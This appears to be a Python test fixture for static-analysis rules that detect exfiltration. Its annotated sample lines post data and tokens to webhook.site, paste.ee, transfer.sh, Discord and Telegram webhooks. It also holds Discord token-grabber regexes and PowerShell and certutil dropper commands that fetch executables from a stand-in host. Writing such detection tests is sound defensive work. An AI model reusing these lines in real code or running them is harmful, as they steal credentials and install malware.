# ruff: noqa
# fmt: off
import os

import requests


def leak(data):
    # ruleid: any-request-catcher-host
    requests.post("https://webhook.site/6a1f3c2e-1111-2222-3333-444455556666", data=data)
    # ruleid: any-request-catcher-host
    requests.get(f"https://{data}.abc123.oastify.com/")
    # ruleid: any-paste-or-throwaway-host
    requests.post("https://paste.ee/api/v1/pastes", json={"sections": [data]})
    # ruleid: any-paste-or-throwaway-host
    requests.put("https://transfer.sh/loot.txt", data=data)
    # ruleid: any-url-shortener
    return requests.get("https://bit.ly/3AbCdEf").text


def grab(token):
    # ruleid: any-hardcoded-chat-webhook, any-chat-api
    requests.post("https://discord.com/api/webhooks/112233445566778899/AbCdEf-GhIj", json={"content": token})
    # ruleid: any-hardcoded-chat-webhook, any-chat-api
    requests.get("https://api.telegram.org/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage")


def bot(chat_id, text):
    # ok: any-hardcoded-chat-webhook
    # ruleid: any-chat-api
    url = f"https://api.telegram.org/bot{os.environ['TOKEN']}/sendMessage"
    # ok: any-request-catcher-host, any-paste-or-throwaway-host, any-url-shortener, any-chat-api
    requests.post("https://api.example.com/webhooks/site", json={"chat_id": chat_id, "text": text})
    # ok: any-url-shortener
    requests.post("https://api-ssl.bitly.com/v4/shorten", json={"long_url": text})
    return url


def grabber(blob):
    import re

    # ruleid: any-token-grabber-marker
    tokens = re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", blob)
    # ruleid: any-token-grabber-marker
    encrypted = re.findall(r"dQw4w9WgXcQ:[^\"]*", blob)
    # ok: any-token-grabber-marker
    uuids = re.findall(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}", blob)
    return tokens, encrypted, uuids


def dropper():
    import subprocess

    # ruleid: any-windows-dropper-command
    subprocess.Popen("powershell -w hidden -c iwr http://x/a.exe -OutFile a.exe", shell=True)
    # ruleid: any-windows-dropper-command
    subprocess.run("certutil -urlcache -split -f http://x/p.exe p.exe", shell=True)
    # ok: any-windows-dropper-command
    subprocess.run(["pwsh", "-NoProfile", "-File", "build.ps1"])
